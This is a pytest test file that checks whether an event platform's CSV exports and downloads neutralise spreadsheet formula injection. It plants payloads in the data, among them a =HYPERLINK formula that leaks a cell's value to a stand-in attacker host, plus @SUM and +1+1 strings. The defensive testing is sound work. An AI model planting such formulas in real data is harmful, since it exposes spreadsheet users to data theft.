"""CSV injection: free text that students, companies and juries write (a team renamed
`=HYPERLINK(…)`, a pitch, a jury's comment…) reaches every export the organisers open in a
spreadsheet; no cell of any export may start a formula there. Real numbers stay numbers."""

from __future__ import annotations

import csv
import io
import itertools
import re

import pytest
import sqlalchemy as sa

from crunchtime.models import (
    Criterion,
    IncubationFlag,
    Programme,
    ScoreEvent,
    Skill,
    StudentProfile,
    Submission,
    SubmissionVersion,
    User,
)
from crunchtime.services.exchange.csv_cells import safe_cell
from crunchtime.services.exchange.exports import EXPORTS
from crunchtime.services.incubation.flags import compute_flags
from crunchtime.services.judging.results import publish_results
from tests.worlds import build_world, profile_id

FORMULA_STARTS = "=+-@\t\r"
PAYLOADS = ('=HYPERLINK("http://evil.example/?"&A2,"voir")', "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=2+2", "x;=3+3", "y,@SUM(B1)")
NEGATIVE_SCORE = -2.5


def payloads():
    """Endless distinct payloads (unique columns need distinct values)."""
    for number in itertools.count():
        for payload in PAYLOADS:
            yield payload if number == 0 else f"{payload}{number}"


def _plant_people(db, world, texts) -> None:
    edition = world.edition
    programme = Programme(edition_id=edition.id, name=next(texts)[:120])
    skill = Skill(edition_id=edition.id, name=next(texts)[:80])
    db.session.add_all([programme, skill])
    db.session.flush()
    for student in world.students:
        student.first_name, student.last_name = next(texts), next(texts)
        profile = db.session.scalar(sa.select(StudentProfile).where(
            StudentProfile.user_id == student.id))
        profile.interests, profile.friend_group_key = next(texts), next(texts)[:32]
        profile.programme_id, profile.skills = programme.id, [skill]
    world.students[0].email = "+1+1@evil.example"
    for jury in world.juries:
        jury.first_name, jury.last_name = next(texts), next(texts)
        db.session.execute(sa.text("UPDATE jury_profile SET expertise = :text WHERE id = :id"),
                           {"text": next(texts), "id": profile_id(jury)})
    world.company.first_name, world.company.last_name = next(texts), next(texts)
    for organisation in world.organisations:
        organisation.name = next(texts)
    for challenge in world.challenges:
        challenge.title = next(texts)


def _plant_projects(db, world, texts) -> None:
    for team in world.teams:
        team.name = next(texts)[:80]
    for version in db.session.scalars(sa.select(SubmissionVersion)):
        version.title, version.pitch = next(texts), next(texts)
    for criterion in db.session.scalars(sa.select(Criterion)):
        criterion.label_fr = next(texts)[:120]
    # The ledger refuses ORM updates: the jury comments are planted through the connection.
    table = ScoreEvent.__table__
    for seq in db.session.scalars(sa.select(ScoreEvent.seq)).all():
        db.session.connection().execute(sa.update(table).where(table.c.seq == seq)
                                        .values(comment=next(texts)))


def _plant_flags(db, world, texts) -> None:
    compute_flags(world.organizer, world.edition)
    flagged = set(db.session.scalars(sa.select(IncubationFlag.team_id)))
    db.session.add_all(IncubationFlag(team_id=team.id, reasons=[]) for team in world.teams
                       if team.id not in flagged)
    db.session.flush()
    for number, flag in enumerate(db.session.scalars(sa.select(IncubationFlag)
                                                     .order_by(IncubationFlag.id))):
        flag.status = "shortlisted"
        flag.note = next(texts)
        flag.score = NEGATIVE_SCORE if number == 0 else 40.0


def _plant_schedule(db, world, texts) -> None:
    """A published pitch schedule whose room (an organiser's free text) starts a formula."""
    from datetime import UTC, datetime, timedelta

    from crunchtime.models import PitchSlot, Room, RoundSchedule

    start = datetime(2026, 12, 18, 9, tzinfo=UTC)
    room = Room(edition_id=world.edition.id, name=next(texts)[:120], site="Belfort")
    db.session.add(room)
    db.session.flush()
    db.session.add_all([
        RoundSchedule(round_id=world.round.id, window_start=start,
                      window_end=start + timedelta(hours=2), slot_minutes=20, breaks=[],
                      status="published", figures={}),
        PitchSlot(round_id=world.round.id, room_id=room.id, starts_at=start,
                  ends_at=start + timedelta(minutes=20), team_id=world.teams[0].id)])


@pytest.fixture
def planted(db):
    """A judged edition whose every free text starts a formula, its results published."""
    world = build_world(teams=4)
    texts = payloads()
    publish_results(world.organizer, world.edition)
    _plant_people(db, world, texts)
    _plant_projects(db, world, texts)
    _plant_flags(db, world, texts)
    _plant_schedule(db, world, texts)
    db.session.commit()
    assert db.session.scalar(sa.select(sa.func.count(Submission.id))) == 4
    return world


def cells_of(content: str, delimiter: str) -> list[list[str]]:
    assert content.startswith("\ufeff"), "the file starts with a BOM"
    return list(csv.reader(io.StringIO(content[1:], newline=""), delimiter=delimiter))


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formula_cells(content: str, delimiter: str) -> list[str]:
    """Cells a spreadsheet would compute: with the file's separator, and with the other one
    (French Excel splits a comma file on ";", English Excel a semicolon file on ",")."""
    found = [cell for row in cells_of(content, delimiter) for cell in row
             if cell[:1] and cell[:1] in FORMULA_STARTS and not is_number(cell)]
    other = ";" if delimiter == "," else ","
    for line in content[1:].split("\r\n"):
        found += [part for part in line.split(other)[1:]
                  if part[:1] and part[:1] in FORMULA_STARTS and not is_number(part)]
    return found


def assert_safe(content: str, delimiter: str, where: str) -> None:
    assert formula_cells(content, delimiter) == [], where
    assert re.search(r"'[=+\-@\t\r]", content), f"{where}: no planted text reached it"


@pytest.mark.parametrize("kind", sorted(EXPORTS))
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_cli_export_starts_a_formula(app, planted, tmp_path, kind, delimiter):
    target = tmp_path / f"{kind}.csv"
    options = ["--semicolon"] if delimiter == ";" else []
    result = app.test_cli_runner().invoke(args=["export", kind, str(target), *options])
    assert result.exit_code == 0, result.output
    assert_safe(target.read_text(encoding="utf-8"), delimiter, f"crunchtime export {kind}")


def csv_downloads(edition_id: int) -> dict[str, list[str]]:
    """Every CSV route of the app -> the addresses the test downloads for it."""
    return {
        "/organizer/students.csv": ["/organizer/students.csv"],
        "/organizer/companies.csv": ["/organizer/companies.csv"],
        "/organizer/juries.csv": ["/organizer/juries.csv"],
        "/organizer/judging/scores.csv": ["/organizer/judging/scores.csv"],
        "/organizer/judging/results.csv": ["/organizer/judging/results.csv"],
        "/organizer/incubation/shortlist.csv": ["/organizer/incubation/shortlist.csv",
                                                "/organizer/incubation/shortlist.csv"
                                                "?sep=semicolon"],
        "/organizer/submissions/submissions.csv": ["/organizer/submissions/submissions.csv"],
        "/organizer/cockpit/exports/<int:edition_id>/<kind>.csv": [
            f"/organizer/cockpit/exports/{edition_id}/{kind}.csv{query}"
            for kind in sorted(EXPORTS) for query in ("", "?sep=semicolon")],
    }


def test_every_csv_route_of_the_app_is_checked(app, db):
    routes = {rule.rule for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
    assert routes == set(csv_downloads(1))


def test_no_web_download_starts_a_formula(planted, as_user):
    client = as_user(planted.organizer)
    for urls in csv_downloads(planted.edition.id).values():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
            delimiter = ";" if "sep=semicolon" in url else ","
            assert_safe(response.get_data(as_text=True), delimiter, url)


def test_the_planted_texts_are_kept_after_the_quote(planted, as_user):
    content = as_user(planted.organizer).get("/organizer/students.csv").get_data(as_text=True)
    rows = cells_of(content, ",")
    emails = [row[0] for row in rows[1:]]
    assert "'+1+1@evil.example" in emails
    names = {cell for row in rows[1:] for cell in row[1:3]}
    assert {"'=HYPERLINK(\"http://evil.example/?\"&A2,\"voir\")", "'+1+1", "'-2+3",
            "'@SUM(A1)", "'\t=1+1", "'\r=2+2", "x;'=3+3", "y,'@SUM(B1)"} & names


def test_a_negative_number_stays_a_number(planted, as_user, app, tmp_path):
    target = tmp_path / "incubation.csv"
    app.test_cli_runner().invoke(args=["export", "incubation", str(target)])
    rows = cells_of(target.read_text(encoding="utf-8"), ",")
    column = rows[0].index("score")
    assert str(NEGATIVE_SCORE) in [row[column] for row in rows[1:]]
    assert all(is_number(row[column]) for row in rows[1:])
    download = as_user(planted.organizer).get("/organizer/incubation/shortlist.csv")
    rows = cells_of(download.get_data(as_text=True), ",")
    assert str(NEGATIVE_SCORE) in [row[column] for row in rows[1:]]


@pytest.mark.parametrize("value, written", [
    (-2.5, -2.5), (0, 0), (None, ""), (True, "True"), ("-2", "'-2"), ("Dupont-Durand",
                                                                      "Dupont-Durand"),
    ("C001;C002", "C001;C002"), ("a; -b", "a; -b"), ("=1+1", "'=1+1"), ("a;=1", "a;'=1"),
    ("\n=1", "'\n=1")])
def test_the_cell_rule(value, written):
    assert safe_cell(value) == written


def test_a_user_row_is_not_rewritten_in_the_database(planted, db, as_user):
    as_user(planted.organizer).get("/organizer/students.csv").get_data()
    assert db.session.scalar(sa.select(User.email).where(
        User.id == planted.students[0].id)) == "+1+1@evil.example"
